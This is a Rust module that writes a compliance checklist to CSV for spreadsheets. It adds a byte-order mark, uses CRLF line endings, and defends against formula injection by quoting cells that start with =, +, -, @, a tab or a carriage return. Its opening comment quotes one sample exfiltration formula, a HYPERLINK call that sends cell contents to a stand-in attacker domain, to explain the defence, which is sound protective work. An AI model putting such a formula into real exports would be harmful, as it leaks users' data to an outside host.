//! The checklist as CSV, one row per item, for spreadsheets, as RFC 4180 has it: records end in
//! CRLF, and a field that holds a comma, a quote or a line break is quoted (a quote doubled).
//!
//! The file starts with a UTF-8 byte-order mark, always: without it Excel reads the file in the
//! system's legacy code page and garbles every non-ASCII letter, and a spreadsheet is what this
//! format is for. Readers that treat the mark as text are told how to drop it (Python:
//! `encoding="utf-8-sig"`); programs that want the data rather than a sheet have the JSON
//! checklist, which has a schema.
//!
//! Spreadsheets evaluate a cell that starts with `=`, `+`, `-` or `@` as a formula (and strip a
//! leading tab or carriage return before deciding), so spec text such as
//! `=HYPERLINK("https://evil.example/?d="&A1)` would run in Excel or `LibreOffice`. Every cell is
//! neutralised as OWASP recommends: such a cell gets a leading `'`, which spreadsheets show as
//! text and hide.

use crate::compile::checklist::{Checklist, Lead};
use crate::model::State;

/// The column headers.
pub const HEADERS: &[&str] = &[
    "id",
    "ref",
    "heading",
    "kind",
    "modality",
    "binding",
    "actor",
    "actor_name",
    "leads",
    "consulted",
    "roles",
    "action",
    "due",
    "due_rule",
    "status",
    "evidence_state",
    "evidence_as_of",
    "evidence_verified",
    "evidence",
    "confidence",
    "inferred",
    "disputed",
    "sources",
    "coordinates_with",
    "reports_to",
    "each",
    "through",
    "condition",
    "refers_to",
    "group",
    "available",
    "concerns",
];

fn parties(leads: &[Lead]) -> String {
    leads
        .iter()
        .map(|l| match &l.acting_through {
            Some(agent) => format!("{} (through {})", l.actor.short, agent.short),
            None => l.actor.short.clone(),
        })
        .collect::<Vec<_>>()
        .join("; ")
}

/// A cell as written: with a leading `'` when a spreadsheet would read it as a formula.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Writes the checklist as CSV.
pub fn checklist(checklist: &Checklist) -> Result<Vec<u8>, csv::Error> {
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        writer.write_record(HEADERS)?;
        for item in &checklist.items {
            let evidence = item.evidence.as_ref();
            let sources: Vec<String> = item
                .sources
                .iter()
                .map(|s| s.url.clone().unwrap_or_else(|| s.title.clone()))
                .collect();
            let names = |list: &[crate::compile::views::Party]| {
                list.iter()
                    .map(|p| p.short.as_str())
                    .collect::<Vec<_>>()
                    .join("; ")
            };
            let refers_to: Vec<String> = item
                .refers_to
                .iter()
                .map(|r| match &r.note {
                    Some(note) => format!("{} ({note})", r.text),
                    None => r.text.clone(),
                })
                .collect();
            let record = [
                item.id.as_str(),
                item.reference.as_str(),
                item.heading.as_deref().unwrap_or_default(),
                item.kind,
                item.modality.as_str(),
                item.binding.as_deref().unwrap_or_default(),
                item.actor.as_deref().unwrap_or_default(),
                item.actor_name.as_deref().unwrap_or_default(),
                &parties(&item.leads),
                &parties(&item.consulted),
                &item
                    .roles
                    .iter()
                    .map(|r| r.text.as_str())
                    .collect::<Vec<_>>()
                    .join("; "),
                item.action.as_str(),
                item.due.as_deref().unwrap_or_default(),
                item.due_rule.as_str(),
                // Permissions, constructions and general provisions have no status.
                if matches!(item.kind, "obligation" | "prohibition") {
                    item.status.as_str()
                } else {
                    ""
                },
                evidence.map_or("", |e| e.state.as_str()),
                evidence.map_or("", |e| e.as_of.as_str()),
                match evidence {
                    Some(e) if e.state == State::Unknown => "",
                    Some(e) if e.verified => "verified",
                    Some(_) => "claimed",
                    None => "",
                },
                evidence
                    .and_then(|e| e.summary.as_deref())
                    .unwrap_or_default(),
                item.confidence,
                &item.inferred.join("; "),
                &item
                    .disputes
                    .iter()
                    .map(|d| d.field.as_str())
                    .collect::<Vec<_>>()
                    .join("; "),
                &sources.join("; "),
                &names(&item.coordinates_with),
                &names(&item.reports_to),
                if item.each {
                    "each lead separately"
                } else {
                    ""
                },
                item.through.as_ref().map_or("", |t| t.text.as_str()),
                item.condition.as_deref().unwrap_or_default(),
                &refers_to.join("; "),
                item.concern.as_str(),
                item.available.as_deref().unwrap_or_default(),
                item.concerns.as_deref().unwrap_or_default(),
            ];
            writer.write_record(record.iter().map(|cell| neutralised(cell).into_owned()))?;
        }
        writer.flush()?;
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::neutralised;

    #[test]
    fn formula_cells_get_a_quote() {
        for cell in ["=1+1", "+SUM(A1)", "-1+1", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(neutralised(cell), format!("'{cell}"));
        }
        for cell in ["", "plain", "1-2", "a=b", "'quoted"] {
            assert_eq!(neutralised(cell), cell);
        }
    }
}
